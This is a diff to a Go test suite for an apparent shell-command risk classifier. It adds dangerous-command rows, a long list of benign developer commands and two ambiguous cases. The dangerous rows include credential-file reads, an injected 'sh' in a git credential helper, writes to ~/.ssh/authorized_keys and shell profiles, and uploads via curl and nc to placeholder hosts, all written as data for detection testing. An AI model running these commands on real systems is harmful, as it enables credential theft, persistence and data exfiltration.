@@ -169,6 +169,8 @@ var dangerousByCategory = []riskTable{
 		"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log",
 		"GIT_CONFIG_GLOBAL=/tmp/cfg git status",
 		"git credential fill",
+		"git config --global credential.helper store",
+		"git config credential.helper 'cache --timeout=1; sh x'",
 		"echo url=https://github.com | git credential fill",
 		"/usr/bin/git config core.hooksPath /tmp/h",
 		"command git config core.fsmonitor x",
@@ -380,6 +382,11 @@ var dangerousByCategory = []riskTable{
 		"python3 -c 'import site; site.execusercustomize()'",
 		"node -e 'console._stdout.write(1)'",
 		"perl -ne 'system(\"id\")' f",
+		"python3 -c 'import numpy; numpy.save(\"x\", 1)'",
+		"python3 -c 'import requests; print(requests.post(\"https://x.example\", data=\"y\").__version__)'",
+		"python3 -c 'import fabric as f; print(f.__version__); f.Connection(\"x\").run(\"id\")'",
+		"python3 -c 'import socket'",
+		"python3 -c 'import numpy.distutils; print(numpy.__version__)'",
 		"perl -e'unlink 1'",
 		"perl -lane 'print qx(id)' f",
 		"ruby -ne 'system(\"id\")' f",
@@ -468,6 +475,7 @@ var dangerousByCategory = []riskTable{
 		"find . -exec sh -c 'echo x >> ~/.profile' \\;",
 		"watch 'cat ~/.aws/credentials'",
 		"xargs -a list curl -T",
+		"echo x | xargs -I{} cp {} ~/.ssh/authorized_keys",
 		"busybox sh -c 'nc example.com 1 < x'",
 		"/bin/sh -c \"python3 -c 'import os'\"",
 		"f=~/.bashrc; echo x >> $f",
@@ -678,6 +686,36 @@ var everydayByCategory = []riskTable{
 		"export NODE_ENV=test && npm test", "CI=1 npm test", "DEBUG=app:* node server.js", "ulimit -n 4096 && npm test",
 		"echo $SHELL", "whoami", "uname -a", "date -u", "df -h .", "free -m", "nproc", "lsof -iTCP -sTCP:LISTEN",
 	}},
+	// A second batch written in one go after the rules: 100/105 on the
+	// first run. Three misses were fixed (git's own credential helpers,
+	// python version checks of any module, xargs -I{} attached); two stay
+	// HIGH by design (git push --delete, sudo) and are not in the table.
+	{"fresh batch 2 (written after the rules)", projectCtx, []string{
+		"git log --format='%H %s' -n 5", "git diff --name-only HEAD~1", "git show --stat HEAD", "git checkout -- main.go", "git restore main.go",
+		"git stash apply stash@{0}", "git branch -m old new", "git config --global --list",
+		"git config --global core.excludesfile ~/.gitignore_global", "git config --global credential.helper cache",
+		"git config --global core.editor 'code --wait'", "git -c core.editor=true rebase --continue", "git commit --no-verify -m x",
+		"GIT_SEQUENCE_EDITOR=: git rebase -i HEAD~2", "git lfs install", "git lfs pull",
+		"go test ./... -run TestX -count=1 -v 2>&1 | grep -E 'FAIL|ok'", "go build -ldflags='-s -w' -o bin/app .", "go mod vendor", "go work sync",
+		"golangci-lint run --fix ./...", "npm outdated", "npm audit fix", "npm run build && npm run test", "npx create-react-app my-app",
+		"yarn dlx create-vite", "node --test", "node --inspect server.js", "node -e 'console.log(require(\"path\").resolve(\".\"))'",
+		"python3 -m venv venv && . venv/bin/activate && pip install -r requirements.txt", "python3 -c 'import numpy; print(numpy.__version__)'",
+		"python -m pip list", "pip freeze > requirements.txt", "pytest --cov=src tests/", "python3 -m black --check .", "mypy src",
+		"uvicorn app:app --reload", "flask run", "python3 manage.py migrate", "jupyter nbconvert --to script x.ipynb",
+		"cargo add serde", "cargo update", "rustup update", "rustc --version", "clang-format -i src/*.c", "make -n", "./configure --prefix=$HOME/.local",
+		"make install PREFIX=$PWD/out",
+		"docker images", "docker rm -f app", "docker system df", "docker compose down -v", "kubectl describe pod x", "helm lint .",
+		"terraform init", "terraform validate", "ansible-lint", "shellcheck scripts/*.sh", "hadolint Dockerfile",
+		"find . -name '*.pyc' -delete", "find . -type d -name __pycache__ -exec rm -rf {} +", "rm -f *.log", "du -ah . | sort -rh | head -20",
+		"ls -la ~/.ssh", "ssh-keygen -lf ~/.ssh/id_ed25519.pub", "ssh -T git@github.com", "ssh-add -l", "cat ~/.ssh/config", "cat ~/.ssh/known_hosts | wc -l",
+		"env | sort", "printenv | grep -i proxy", "echo $GOPATH", "export GOBIN=$PWD/bin", "source .env", "set -a; . ./.env; set +a",
+		"curl -sS https://pypi.org/pypi/requests/json | jq -r .info.version", "wget -c https://example.com/big.iso", "curl -s -o /dev/null -w '%{http_code}' https://example.com",
+		"http :8080/health", "nc -vz 127.0.0.1 6379", "openssl x509 -in cert.pem -noout -text", "openssl rand -hex 16", "base64 -d <<< aGVsbG8=",
+		"awk -F'\\t' '{print $2}' data.tsv", "sed -E 's/([0-9]+)/<\\1>/g' in.txt", "perl -ne 'print if /^#/' x", "jq -r '.[] | .name' data.json | sort -u",
+		"xargs -I{} cp {} backup/ < files.txt", "tar -tzf archive.tgz | head", "zip -r out.zip dist", "unzip -l out.zip", "gzip -d x.gz",
+		"crontab -l 2>/dev/null | grep backup", "systemctl --user list-timers", "journalctl -xe | tail -50", "ps -o pid,rss,cmd -p $$", "top -bn1 | head -15",
+		"watch -n 2 'ls -la build'", "tmux ls", "history | tail", "code .", "open http://localhost:3000", "xdg-open index.html",
+	}},
 }
 
 // judge rates every row of the tables and reports rows on the wrong side.
@@ -812,6 +850,8 @@ func TestAmbiguousByDesign(t *testing.T) {
 		"source ~/.bashrc",
 		"curl -H \"Authorization: Bearer $API_TOKEN\" http://localhost:8080/api",
 		"python3 -c 'import os; print(os.getcwd())'",
+		"git push origin --delete old-branch",
+		"sudo -n true 2>/dev/null || echo no sudo",
 	} {
 		if got := AssessShellIn(cmd, projectCtx); got.Risk < High || len(got.Reasons) == 0 {
 			t.Errorf("%q: %v %q, want HIGH with a reason", cmd, got.Risk, got.Reasons)
